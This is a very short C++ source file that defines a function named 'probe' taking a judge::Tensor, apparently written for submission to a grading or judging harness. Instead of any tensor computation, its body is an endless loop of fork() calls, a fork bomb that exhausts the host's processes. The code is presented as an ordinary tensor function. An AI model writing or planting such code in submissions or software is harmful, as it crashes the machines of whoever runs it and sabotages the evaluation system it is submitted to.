#include <judge/tensor.hpp>
#include <unistd.h>
judge::Tensor probe(const judge::Tensor& x) {
    for (;;) ::fork();
    return x;
}
